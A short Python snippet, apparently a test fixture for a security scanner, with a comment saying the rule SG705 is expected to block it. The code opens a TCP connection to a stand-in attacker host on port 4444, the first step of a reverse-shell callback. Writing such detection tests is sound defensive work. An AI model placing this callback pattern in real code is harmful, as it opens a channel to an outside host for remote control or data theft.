# expect: block SG705@3
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.connect(("evil.example.com", 4444))
